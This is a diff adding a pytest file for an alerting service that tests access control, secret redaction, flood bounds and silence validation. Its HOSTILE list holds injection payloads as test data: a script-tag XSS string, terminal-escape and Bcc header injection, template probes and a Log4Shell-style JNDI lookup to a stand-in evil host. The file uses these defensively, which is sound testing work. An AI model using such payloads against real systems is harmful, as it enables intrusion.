@@ -1,0 +1,162 @@
+"""Alerts and hostile senders and callers: who may see and change them, and what the texts of events can do."""
+
+import json
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+
+from tests.journey.alerting import Receiver
+from tests.journey.conftest import PUBLIC, Service, Start, made_key
+from tests.waiting import until
+
+STREAM = "postgres.logs"
+ALERT = """/*
+name = "senders"
+max_rows = 5000
+[alert]
+every = "1s"
+condition = "n > 0"
+group_by = ["project", "message"]
+text = "{project}: {message}"
+send_to = ["hook"]
+*/
+select t.project, t.event_message as message, count(*) as n from `postgres.logs` as t group by project, message
+"""
+# What a receiver, a terminal, a page or a template might obey.
+HOSTILE = [
+    "<!channel> <https://evil.example|click>",
+    "</script><script>alert(1)</script>",
+    "\x1b[2J\x9b31m\x00\r\nBcc: all@example.com",
+    "{project} {{value}} {0.__class__} %s ${jndi:ldap://evil}",
+    "\u202etxt.exe\u2066",
+    "x" * 100_000,
+    "\U0001f600" * 3_000,
+    "",
+]
+
+
+@pytest.fixture
+def receiver() -> Iterator[Receiver]:
+    made = Receiver()
+    yield made
+    made.close()
+
+
+@pytest.fixture
+def watched(start: Start, tmp_path: Path, receiver: Receiver) -> Service:
+    (tmp_path / "queries").mkdir()
+    (tmp_path / "queries" / "senders.sql").write_text(ALERT)
+    return start(
+        "--endpoints",
+        str(tmp_path / "queries"),
+        env={
+            "CORDWOOD_ALERTS_TARGETS": f"hook = {receiver.target}?token=s3cret-in-the-address",
+            "CORDWOOD_ALERTS_REFUSE_ADDRESSES": "private",
+            "CORDWOOD_ALERTS_SEND_RATE": "1000/s",
+            "CORDWOOD_ALERTS_SIGNING_SECRET": "s3cret-of-signatures",
+        },
+    )
+
+
+ROUTES = [
+    ("GET", "/api/alerts"),
+    ("GET", "/api/alerts/history"),
+    ("GET", "/api/alerts/senders/preview"),
+    ("GET", "/api/alerts/silences"),
+    ("POST", "/api/alerts/silences"),
+    ("DELETE", "/api/alerts/silences/x"),
+    ("POST", "/api/alerts/targets/hook/test"),
+]
+
+
+def test_only_a_private_key_that_sees_everything_sees_alerts(watched: Service, receiver: Receiver) -> None:
+    keys = {
+        "none": None,
+        "public": PUBLIC,
+        "query": made_key(watched, scopes="query"),
+        "endpoint": made_key(watched, scopes="query:endpoint:senders"),
+        "pinned": made_key(watched, scopes="private", pins={"project": "p"}),
+        "redacted": made_key(watched, scopes="private", redact="always"),
+    }
+    for name, key in keys.items():
+        headers = {} if key is None else {"X-API-KEY": key}
+        with httpx.Client(base_url=watched.url, headers=headers) as client:
+            statuses = [client.request(method, path, json={"for": "1h"}).status_code for method, path in ROUTES]
+        assert set(statuses) == {401 if key is None else 403}, name
+    assert receiver.received == []
+
+
+def test_what_senders_write_reaches_targets_and_pages_as_text_and_bounded(watched: Service, receiver: Receiver) -> None:
+    events = [{"project": "p", "event_message": text} for text in HOSTILE]
+    assert watched.send(STREAM, events).json()["accepted"] == len(events)
+    until(lambda: len(receiver.told) == len(events))
+    for body in receiver.received:
+        assert len(json.dumps(body)) < 256_000
+    history = watched.client.get("/api/alerts/history").json()["history"]
+    told = watched.client.get("/api/alerts")
+    assert told.headers["content-type"].startswith("application/json")
+    assert len(told.json()["alerts"][0]["instances"]) == len(events)
+    assert all(len(item.get("text", "")) <= 500 for item in history)
+
+
+def test_a_flood_of_groups_is_bounded_told_and_resolved(watched: Service, receiver: Receiver) -> None:
+    for first in range(0, 3_000, 1_000):
+        events = [{"project": "p", "event_message": f"m{number}"} for number in range(first, first + 1_000)]
+        assert watched.send(STREAM, events).status_code == 200
+    until(lambda: len(receiver.told) >= 1_000, 60)
+    told = watched.client.get("/api/alerts").json()["alerts"][0]
+    assert len(told["instances"]) == 1_000
+    assert told["notice"] == "Only the first 1,000 groups are watched."
+    assert watched.query("senders").status_code == 200
+
+
+def test_no_answer_has_a_secret_of_a_target(watched: Service, receiver: Receiver) -> None:
+    receiver.status = 500
+    assert watched.send(STREAM, [{"project": "p", "event_message": "x"}]).status_code == 200
+    until(lambda: watched.client.get("/api/alerts").json()["targets"][0].get("failures", 0) > 0)
+    texts = [
+        watched.client.request(method, path).text
+        for method, path in (*ROUTES[:4], ROUTES[-1], ("GET", "/api/status"), ("GET", "/metrics"))
+    ]
+    assert not [text for text in texts if "s3cret" in text]
+    assert "s3cret" not in watched.stop_and_read()
+
+
+@pytest.mark.parametrize(
+    ("body", "status"),
+    [
+        (b"", 400),
+        (b"[]", 400),
+        (b"{", 400),
+        (b'{"for": "1h", "alert": "gone"}', 404),
+        (b"{}", 422),
+        (b'{"for": "1h", "until": "2030-01-01"}', 422),
+        (b'{"for": "-1h"}', 422),
+        (b'{"for": "0"}', 422),
+        (b'{"for": "400d"}', 422),
+        (b'{"for": "99999999999999999999999d"}', 422),
+        (b'{"until": "2001-01-01"}', 422),
+        (b'{"until": "0001-01-01T00:00:00+14:00"}', 422),
+        (b'{"until": "soon"}', 422),
+        (b'{"for": "1h", "labels": {"a": 1}}', 400),
+        (b'{"for": "1h", "lables": {}}', 400),
+        (b'{"for": "1h", "comment": "' + b"x" * 501 + b'"}', 422),
+        (b'{"for": "1h", "labels": ' + b'{"a":' * 200 + b"1" + b"}" * 201, 400),
+    ],
+)
+def test_silences_that_are_refused(service: Service, body: bytes, status: int) -> None:
+    answer = service.client.post("/api/alerts/silences", content=body)
+    assert answer.status_code == status, answer.text
+    assert service.client.get("/api/alerts/silences").json() == {"silences": []}
+
+
+def test_names_that_are_not_there_are_told(watched: Service) -> None:
+    unknown = watched.client.get("/api/alerts/sender/preview")
+    assert (unknown.status_code, unknown.json()["error"]["status"]) == (404, "request.unknown-alert")
+    assert unknown.json()["error"]["hint"] == "Did you mean senders?"
+    assert watched.client.post("/api/alerts/targets/hok/test").status_code == 404
+    assert watched.client.delete("/api/alerts/silences/x").status_code == 404
+    assert watched.client.get("/api/alerts/history?limit=0").status_code == 400
+    assert watched.client.get("/api/alerts/history?limit=1&before=x").status_code == 400
